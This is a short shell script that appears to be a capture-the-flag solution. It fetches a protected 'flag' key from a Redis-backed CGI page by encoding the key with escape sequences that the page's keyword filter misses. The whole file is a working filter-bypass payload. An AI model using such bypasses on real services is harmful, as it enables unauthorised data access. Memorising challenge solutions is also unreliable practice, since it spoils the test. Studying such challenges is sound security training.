#!/bin/sh
# solve.sh <url>: Redis' inline protocol knows quotes and escapes, the page's filter does not: "fl\x61g".
page="$1/cgi-bin/get?key=%22fl%5Cx61g%22"
if command -v curl >/dev/null; then curl -fsS "$page"; else wget -qO- "$page"; fi
